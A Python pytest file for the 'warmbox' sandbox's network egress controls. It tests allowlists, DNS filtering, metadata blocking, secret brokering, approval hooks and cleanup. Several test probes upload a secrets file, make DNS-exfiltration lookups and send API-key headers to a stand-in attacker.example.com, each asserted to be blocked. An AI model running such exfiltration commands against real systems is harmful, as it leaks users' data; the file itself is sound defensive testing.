"""Egress control against the fake internet of conftest.py: nothing leaves this machine."""

from __future__ import annotations

import json
import os
import subprocess
import time

import pytest

from warmbox import InvalidArgument, Network, Sandbox, Secret, Unsupported
from warmbox.engine import egress
from warmbox.engine.engine import Engine
from warmbox.network import netns

from .conftest import ALLOWED, ATTACKER, METADATA

pytestmark = pytest.mark.sandbox
CURL = "curl -sS --max-time 8 "
# a few representative tests run on the microVM tier too (its NIC's tap in its own namespace:
# backends/microvm_net.py); None: the default tier
MICROVM = pytest.param("microvm", marks=pytest.mark.microvm, id="microvm")
# gVisor: its link is made before runsc starts it, in a namespace prepared for it
DEFAULT, GVISOR = pytest.param(None, id="default"), pytest.param("gvisor", id="gvisor")
TIERS = [DEFAULT, GVISOR, MICROVM]


def sh(sb, cmd: str, timeout: float = 40):
    return sb.commands.run(["/bin/bash", "-c", cmd], timeout=timeout)


def events(sb, **match):
    return [e for e in sb.network.log() if all(getattr(e, k) == v for k, v in match.items())]


@pytest.fixture
def allow_sb(request, net_home, world):
    world.clear_logs()
    tier = getattr(request, "param", None)
    sb = Sandbox.create(tier=tier, network=Network(allow=["allowed.test"]), timeout=300, home=net_home)
    yield sb
    sb.kill()


@pytest.mark.parametrize("tier", TIERS)
def test_default_sandbox_reaches_nothing(net_home, world, tier):
    world.clear_logs()
    with Sandbox.create(tier=tier, timeout=120, home=net_home) as sb:
        r = sh(sb, "ls /sys/class/net")
        # a microVM always has its NIC (its memory image needs it); its namespace has no link.
        # gVisor without a policy: runsc's --network=none, the Sentry's loopback only
        assert r.stdout.split() == (["eth0", "lo"] if tier == "microvm" else ["lo"])
        probes = {
            "tcp": f"{CURL} http://{ALLOWED}/hello.txt",
            "tcp_metadata": f"{CURL} http://{METADATA}/",
            "dns": "getent hosts allowed.test",
            # connected, sent twice: a refusal that comes back (a microVM's route leads to a dead end
            # that answers) fails the second send, as no route at all fails the connect
            "udp": f'python3 -c "import socket, time; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
            f"s.connect(('{ALLOWED}', 53)); s.send(b'x'); time.sleep(0.5); s.send(b'x')\"",
            "icmp": f'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)'
            f".sendto(bytes.fromhex('0800f7ff00000000'), ('{ALLOWED}', 0))\"",
            "ipv6": "python3 -c \"import socket; socket.create_connection(('2001:db8::1', 80), timeout=3)\"",
            "proxy": f"{CURL} -x http://{netns.GATEWAY}:{netns.PROXY_PORT} http://allowed.test/hello.txt",
        }
        for name, cmd in probes.items():
            r = sh(sb, cmd)
            assert r.exit_code != 0, f"{name} probe succeeded from a sandbox without network: {r.stdout}"
        # only the image's offline proxy (a name that cannot resolve and says why), never the real one
        assert "HTTP_PROXY=http://no-network.sandbox-policy-is-none.invalid:9\n" in sh(sb, "env").stdout
    assert world.log("allowed") == [] and world.log("metadata") == [] and world.log("dns") == []


def test_allowlisted_site_works_with_unchanged_tools(allow_sb, world):
    sb = allow_sb
    assert "network" in sb.timings  # the link is set up on the request path
    r = sh(sb, f"{CURL} http://allowed.test/hello.txt")
    assert r.exit_code == 0 and r.stdout == "hello from the allowed site\n", r.stderr
    r = sh(sb, "cd /tmp && git clone -q http://allowed.test/repo.git && cat repo/README")
    assert r.exit_code == 0 and "cloned through the warmbox proxy" in r.stdout, r.stderr
    r = sh(
        sb,
        "cd /tmp && python3 -m pip download -q --no-deps --disable-pip-version-check "
        "--index-url http://allowed.test/simple/ --trusted-host allowed.test -d /tmp/dl wbtpkg "
        "&& ls /tmp/dl",
        timeout=90,
    )
    assert r.exit_code == 0 and "wbtpkg-1.0-py3-none-any.whl" in r.stdout, r.stderr
    sb.files.write("/tmp/ca.pem", (world.dir / "ca.pem").read_text())
    r = sh(
        sb,
        "python3 -c \"import requests; r = requests.get('https://allowed.test/hello.txt', "
        "verify='/tmp/ca.pem', timeout=10); print(r.status_code, r.text.strip())\"",
    )
    assert r.exit_code == 0 and r.stdout.strip() == "200 hello from the allowed site", r.stderr
    got = events(sb, host="allowed.test", decision="allow")
    assert {e.kind for e in got} >= {"http", "connect"}
    assert all(e.address == ALLOWED and e.rule == "allow:allowed.test" for e in got)
    tunnel = next(e for e in got if e.kind == "connect")
    assert tunnel.port == 443 and tunnel.bytes_up > 0 and tunnel.bytes_down > 0
    # the site saw the requests through the proxy only (its client is the upstream namespace)
    assert {rec["client"] for rec in world.log("allowed")} == {"192.0.2.1"}


@pytest.mark.parametrize("allow_sb", TIERS, indirect=True)
def test_attacker_upload_is_refused_and_logged(allow_sb, world):
    sb = allow_sb
    sb.files.write("/workspace/secrets.txt", "customer data\n")
    r = sh(
        sb,
        "python3 -c \"import requests; r = requests.post('http://attacker.example.com/upload', "
        "files={'data': open('/workspace/secrets.txt','rb')}, timeout=10); print(r.status_code)\"",
    )
    assert r.stdout.strip() == "403", (r.stdout, r.stderr)
    r = sh(sb, f"{CURL} -T /workspace/secrets.txt https://attacker.example.com/upload")
    assert r.exit_code != 0
    denied = events(sb, host="attacker.example.com", decision="deny")
    assert {e.kind for e in denied} == {"http", "connect"} and all(e.rule == "default-deny" for e in denied)
    assert world.log("attacker") == []


@pytest.mark.parametrize("allow_sb", TIERS, indirect=True)
def test_raw_ip_and_direct_connections_bypassing_the_proxy_fail(allow_sb, world):
    sb = allow_sb
    for cmd in (
        f"{CURL} --noproxy '*' http://{ALLOWED}/hello.txt",
        f"{CURL} --noproxy '*' http://allowed.test/hello.txt",
        f"python3 -c \"import socket; socket.create_connection(('{ATTACKER}', 443), timeout=3)\"",
        f"python3 -c \"import socket; socket.create_connection(('{netns.GATEWAY}', 22), timeout=3)\"",
        "python3 -c \"import socket; socket.create_connection(('2001:db8::1', 80), timeout=3)\"",
    ):
        r = sh(sb, cmd)
        assert r.exit_code != 0, cmd
    v6 = sh(sb, "cat /proc/net/if_inet6 2>/dev/null; ip -6 addr 2>/dev/null").stdout.split("\n")
    if sb.tier == "microvm":  # its own kernel keeps ::1 on its loopback; the NIC has no IPv6
        v6 = [line for line in v6 if not line.endswith(" lo")]
    assert [line for line in v6 if line.strip()] == []  # no IPv6
    # a raw IP through the proxy is an unknown destination too
    r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://{ALLOWED}/hello.txt")
    assert r.stdout == "403"
    assert world.log("allowed") == [] and world.log("attacker") == []


def test_metadata_refused_by_address_even_via_allowed_names(net_home, world):
    world.clear_logs()
    net = Network(allow=["metadata.test", "rebind.test", "169.254.0.0/16", METADATA])
    with Sandbox.create(network=net, timeout=120, home=net_home) as sb:
        for url in (f"http://{METADATA}/latest/meta-data/", "http://metadata.test/latest/"):
            r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' {url}")
            assert r.stdout == "403", url
        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://rebind.test/hello.txt")
        assert r.stdout == "200"
        world.set_zone(rebind_test=METADATA)  # the allowed name is re-pointed at the metadata address
        try:
            time.sleep(0.2)
            r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://rebind.test/latest/")
            assert r.stdout == "403"
            r = sh(sb, "getent hosts rebind.test")  # the resolver withholds the blocked answer
            assert METADATA not in r.stdout
        finally:
            world.set_zone()
        rules = {(e.host, e.rule) for e in events(sb, decision="deny")}
        assert (METADATA, "blocked-address") in {(e.address, e.rule) for e in events(sb, decision="deny")}
        assert ("rebind.test", "blocked-address") in rules and ("metadata.test", "blocked-address") in rules
    assert world.log("metadata") == []


def test_deny_cidr_refuses_the_addresses_of_an_allowed_name(net_home, world):
    world.clear_logs()
    net = Network(allow=["allowed.test", "api.test", "attacker.example.com"], deny=["198.51.100.0/24"])
    with Sandbox.create(network=net, timeout=120, home=net_home) as sb:
        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://allowed.test/hello.txt")
        assert r.stdout == "403"
        assert sh(sb, "getent hosts api.test").exit_code != 0  # the resolver withholds the denied answer
        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://attacker.example.com/x")
        assert r.stdout in ("200", "404")  # outside the denied range
        denied = {(e.kind, e.host): (e.address, e.rule) for e in events(sb, decision="deny")}
        assert denied[("http", "allowed.test")] == (ALLOWED, "deny:198.51.100.0/24")
        assert denied[("dns", "api.test")] == (ALLOWED, "deny:198.51.100.0/24")
    assert world.log("allowed") == []


@pytest.mark.parametrize("allow_sb", [DEFAULT, GVISOR], indirect=True)
def test_dns_answers_only_allowed_names(allow_sb, world):
    sb = allow_sb
    r = sh(sb, "getent hosts allowed.test")
    assert r.exit_code == 0 and ALLOWED in r.stdout
    for name in ("attacker.example.com", "c2VjcmV0.exfil.attacker.example.com", "unknown.test"):
        r = sh(sb, f"getent hosts {name}")
        assert r.exit_code != 0, name
    asked = {rec["name"] for rec in world.log("dns")}
    assert "allowed.test" in asked
    assert not asked & {"attacker.example.com", "c2VjcmV0.exfil.attacker.example.com", "unknown.test"}
    nx = {e.host for e in events(sb, kind="dns", decision="deny")}
    assert {"attacker.example.com", "unknown.test"} <= nx


@pytest.mark.parametrize("tier", [DEFAULT, GVISOR])
def test_secret_is_brokered_never_seen(net_home, world, tier):
    world.clear_logs()
    value = "sk-REAL-" + os.urandom(8).hex()
    net = Network(allow=["api.test", "attacker.example.com"])
    with Sandbox.create(
        tier=tier,
        network=net,
        secrets={"OPENAI_API_KEY": Secret(value, hosts=["api.test"])},
        timeout=120,
        home=net_home,
    ) as sb:
        env = sh(sb, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'").stdout
        placeholder = next(line.split("=", 1)[1] for line in env.splitlines() if line.startswith("OPENAI_API_KEY="))
        assert value not in env and placeholder.startswith("warmbox-secret-")
        # the whole filesystem (gVisor, whose every file read is slow under ptrace: where writes go)
        where = "/workspace /tmp /home /root /etc /run /var /opt" if sb.tier == "gvisor" else "/"
        grep = f'grep -rl --binary-files=text "{value}" {where} --exclude-dir=proc --exclude-dir=sys'
        r = sh(sb, grep + " 2>/dev/null | head -3")
        assert r.stdout == ""
        # the allowed host gets the real value (HTTPS, intercepted with the sandbox's own CA)
        r = sh(sb, f'{CURL} -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/headers')
        assert r.exit_code == 0, r.stderr
        assert json.loads(r.stdout)["Authorization"] == f"Bearer {value}"
        r = sh(
            sb,
            "python3 -c \"import os, requests; print(requests.get('https://api.test/headers', headers="
            "{'X-Key': os.environ['OPENAI_API_KEY']}, timeout=10).json()['X-Key'])\"",
        )
        assert r.stdout.strip() == value, r.stderr
        # an allowed host that is not the secret's gets only the inert placeholder
        for scheme in ("http", "https"):
            r = sh(sb, f'{CURL} -k -H "Authorization: Bearer $OPENAI_API_KEY" -d x {scheme}://attacker.example.com/up')
            assert r.exit_code == 0, r.stderr
        seen = json.dumps(world.log("attacker"))
        assert placeholder in seen and value not in seen
        assert [rec["headers"].get("Authorization") for rec in world.log("allowed")] == [f"Bearer {value}", None]
        assert [rec["headers"].get("X-Key") for rec in world.log("allowed")] == [None, value]
        logged = json.dumps([e.__dict__ for e in sb.network.log()])
        assert value not in logged
        snap = sb.snapshot()
    eng = Engine.for_home(net_home)
    from warmbox.engine import snapshot as snapshots

    blob = snapshots.resolve(eng, snap.snapshot_id)
    assert value.encode() not in json.dumps(blob.__dict__, default=str).encode()
    assert value not in (net_home / "netproxy.log").read_text() if (net_home / "netproxy.log").exists() else True


def test_policy_update_applies_to_the_next_connection(net_home, world):
    world.clear_logs()
    with Sandbox.create(timeout=120, home=net_home) as sb:
        assert sb.network.policy() == "none"
        sb.network.update(Network(allow=["allowed.test"]))  # none -> link + env on the running sandbox
        r = sh(sb, f"{CURL} http://allowed.test/hello.txt")
        assert r.exit_code == 0, r.stderr
        sb.network.update(Network(allow=["attacker.example.com"]))
        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://allowed.test/hello.txt")
        assert r.stdout == "403"
        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://attacker.example.com/x")
        assert r.stdout in ("200", "404")
        sb.network.update("none")
        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://attacker.example.com/x")
        assert r.stdout == "403"
        assert sb.network.policy() == "none"
        with pytest.raises(InvalidArgument):
            sb.network.update(Network(allow=["bad host name!"]))


def test_gvisor_link_is_made_at_create_and_its_policy_updates_in_place(net_home, world):
    """gVisor reads its interfaces once, when it starts: a sandbox created without a network gets
    none later (a typed error saying so); one created with any policy keeps its link, and its
    policy changes take effect on the next connection, as on the container tier."""
    world.clear_logs()
    with Sandbox.create(tier="gvisor", template="shell", timeout=120, home=net_home) as sb:
        with pytest.raises(Unsupported, match="create it with the network policy"):
            sb.network.update(Network(allow=["allowed.test"]))
        assert sb.network.policy() == "none"
        assert sh(sb, "ls /sys/class/net").stdout.split() == ["lo"]
    with Sandbox.create(tier="gvisor", template="shell", network=Network(allow=[]), timeout=120, home=net_home) as sb:
        assert "network" in sb.timings
        assert sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://allowed.test/hello.txt").stdout == "403"
        sb.network.update(Network(allow=["allowed.test"]))
        r = sh(sb, f"{CURL} http://allowed.test/hello.txt")
        assert r.exit_code == 0 and r.stdout == "hello from the allowed site\n", r.stderr
        sb.network.update("none")
        assert sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://allowed.test/hello.txt").stdout == "403"
    assert [rec["path"] for rec in world.log("allowed")] == ["/hello.txt"]


def test_gvisor_continued_in_place_after_its_checkpoint_keeps_its_link(net_home, world):
    """A pause whose storing failed continues the sandbox from its own image in place
    (snapshot._revive): runsc reads the namespace again, and the runtime that exited took eth0's
    address with it, so the link is made again first. Same processes, same network."""
    import asyncio
    import tempfile
    from pathlib import Path

    from warmbox.engine import checkpoint

    world.clear_logs()
    engine = Engine.for_home(net_home)
    net = Network(allow=["allowed.test"])
    with Sandbox.create(tier="gvisor", template="shell", network=net, timeout=120, home=net_home) as sb:
        sh(sb, "sleep 600 >/dev/null 2>&1 &")
        address = engine.registry.egress.link(sb.sandbox_id)[0]

        async def checkpoint_and_continue() -> None:
            _, handle = engine.info(sb.sandbox_id)
            backend = engine.backend("gvisor")
            session = await engine.connect(handle)
            try:
                await session.quiesce()
            finally:
                await session.close()
            with tempfile.TemporaryDirectory(dir=engine.runtime) as d:
                await backend.checkpoint(handle, Path(d))  # the runtime exits, as in a pause
                await checkpoint._revive(engine, backend, handle, Path(d))

        asyncio.run(checkpoint_and_continue())
        assert sh(sb, "pgrep -x sleep").exit_code == 0
        r = sh(sb, f"{CURL} http://allowed.test/hello.txt")
        assert r.exit_code == 0 and r.stdout == "hello from the allowed site\n", r.stderr
        assert engine.registry.egress.link(sb.sandbox_id)[0] == address
    assert [rec["path"] for rec in world.log("allowed")] == ["/hello.txt"]


def test_approval_hook_allows_and_denies(net_home, world):
    world.clear_logs()
    asked = []

    def hook(req):
        asked.append((req.host, req.port, req.kind))
        return {"allowed.test": "allow_once", "api.test": "allow_always"}.get(req.host, "deny")

    with Sandbox.create(
        network=Network(allow=[], on_unknown="ask"), on_approval=hook, timeout=120, home=net_home
    ) as sb:

        def code(url):
            return sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' {url}").stdout

        assert code("http://allowed.test/hello.txt") == "200"
        assert code("http://attacker.example.com/x") == "403"
        assert code("http://api.test/hello.txt") == "200"
        assert code("http://api.test/hello.txt") == "200"  # allow_always: no second question
        assert code("http://allowed.test/hello.txt") == "200"  # allow_once: asked again
        assert [h for h, _, _ in asked] == ["allowed.test", "attacker.example.com", "api.test", "allowed.test"]
        assert "api.test" in sb.network.policy()
        rules = [(e.host, e.rule) for e in sb.network.log() if e.kind == "http"]
        assert ("attacker.example.com", "approval:deny") in rules and ("allowed.test", "approval:allow_once") in rules
        assert ("api.test", "allow:api.test") in rules
        # the live callback answered everything: nothing went to the approval queue
        queued = Engine.for_home(net_home).registry.approvals.approvals(None)
        assert [a for a in queued if a.sandbox_id == sb.sandbox_id] == []
    assert world.log("attacker") == []


def test_approval_without_answer_denies_in_bounded_time(net_home, world):
    def slow(req):
        time.sleep(8)  # longer than network.approval_timeout (5 s)
        return "allow_once"

    with Sandbox.create(network=Network(on_unknown="ask"), on_approval=slow, timeout=120, home=net_home) as sb:
        t0 = time.monotonic()
        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://allowed.test/hello.txt")
        assert r.stdout == "403" and time.monotonic() - t0 < 7.5
        assert [e.rule for e in sb.network.log() if e.kind == "http"] == ["approval:timeout"]


@pytest.mark.parametrize("tier", [DEFAULT, GVISOR])
def test_everything_is_removed_with_the_sandbox(net_home, world, tier):
    engine = Engine.for_home(net_home)
    egress_ns = netns.egress_name(engine.runtime)
    sb = Sandbox.create(tier=tier, network="internet", timeout=120, home=net_home)
    sid = sb.sandbox_id
    assert sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://allowed.test/hello.txt").stdout == "200"
    row = engine.registry.egress.link(sid)
    assert row is not None and row[1] in netns.links_in(egress_ns)
    # a tier that takes its link before its start runs in a namespace prepared for it
    prepared = netns.netns_path(netns.sandbox_netns_name(sid))
    assert os.path.exists(prepared) == engine.backend(sb.tier).capabilities().link_before_start
    sb.kill()
    assert engine.registry.egress.link(sid) is None
    assert row[1] not in netns.links_in(egress_ns)
    assert not os.path.exists(prepared)
    out = subprocess.run(
        ["ip", "netns", "exec", egress_ns, "nft", "list", "set", "inet", "warmbox", "peers"],
        capture_output=True,
        text=True,
    ).stdout
    assert row[0] not in out
    assert egress.log(engine, sid), "the audit log outlives the sandbox"


def test_cli_run_with_allowlist_and_net_log(net_home, world):
    world.clear_logs()
    env = {**os.environ, "WARMBOX_HOME": str(net_home)}
    wb = [os.path.join(os.path.dirname(__import__("sys").executable), "warmbox")]
    r = subprocess.run(
        [
            *wb,
            "run",
            "--json",
            "--allow",
            "allowed.test",
            "--",
            "curl",
            "-sS",
            "--max-time",
            "8",
            "http://allowed.test/hello.txt",
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert r.returncode == 0, r.stderr
    rec = json.loads(r.stdout)
    assert rec["stdout"] == "hello from the allowed site\n" and "network" in rec["timings"]
    r = subprocess.run([*wb, "net", "log", rec["sandbox_id"]], capture_output=True, text=True, env=env)
    assert r.returncode == 0 and "allow" in r.stdout and "allowed.test:80" in r.stdout, r.stdout
    r = subprocess.run([*wb, "run", "--allow", "bad host!", "--", "true"], capture_output=True, text=True, env=env)
    assert r.returncode == 125 and r.stderr.startswith("warmbox: error:") and "Traceback" not in r.stderr
    r = subprocess.run(
        [*wb, "run", "--secret", "WBT_NOPE=api.test", "--allow", "api.test", "--", "true"],
        capture_output=True,
        text=True,
        env=env,
    )
    assert r.returncode == 125 and "WBT_NOPE" in r.stderr


@pytest.mark.parametrize(
    "tier,template", [("container", "shell"), pytest.param("microvm", "base", marks=pytest.mark.microvm, id="microvm")]
)
def test_pooled_sandbox_gets_its_network_at_claim(net_home, world, tier, template):
    from tests.conftest import wait_for
    from warmbox import Limits

    world.clear_logs()
    cfg = net_home / "warmbox.toml"
    old = cfg.read_text()
    cfg.write_text(
        old.replace(
            "[pools]\n",
            f'[pools.netpool-{tier}]\ntier = "{tier}"\ntemplate = "{template}"\nmin = 1\nmax = 1\ntarget = 1\n'
            "limits = { memory_mb = 384 }\n",
        )
    )
    engine = Engine.for_home(net_home)
    try:
        engine.ensure_daemon()
        # a pool per tier: the other's sandboxes may still be pooled (retired by the daemon's next tick)
        wait_for(lambda: engine.registry.pools.pool_counts(f"netpool-{tier}")[0] >= 1, 120, "a pooled sandbox")
        with Sandbox.create(
            tier=tier,
            template=template,
            limits=Limits(memory_mb=384),
            network=Network(allow=["allowed.test"]),
            timeout=60,
            home=net_home,
        ) as sb:
            assert sb.from_pool
            assert [t.stage for t in sb.stage_timings if t.on_request_path] == ["allocation", "network"]
            r = sh(sb, f"{CURL} http://allowed.test/hello.txt")
            assert r.exit_code == 0, r.stderr
    finally:
        cfg.write_text(old)


def test_connect_tunnel_needs_matching_sni(allow_sb, world):
    sb = allow_sb
    code = (
        "import socket, ssl\n"
        f"s = socket.create_connection(('{netns.GATEWAY}', {netns.PROXY_PORT}), timeout=8)\n"
        "s.sendall(b'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n')\n"
        "assert s.recv(4096).startswith(b'HTTP/1.1 200')\n"
        "ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE\n"
        "try:\n"
        "    t = ctx.wrap_socket(s, server_hostname='attacker.example.com'); print('HANDSHAKE', t.version())\n"
        "except (ssl.SSLError, OSError) as e:\n"
        "    print('REFUSED', type(e).__name__)\n"
    )
    r = sh(sb, f'python3 -c "{code}"')
    assert "REFUSED" in r.stdout, (r.stdout, r.stderr)
    assert [e.rule for e in events(sb, kind="connect")] == ["sni-mismatch"]
    assert events(sb, kind="connect")[0].decision == "deny"
    assert world.log("allowed") == []
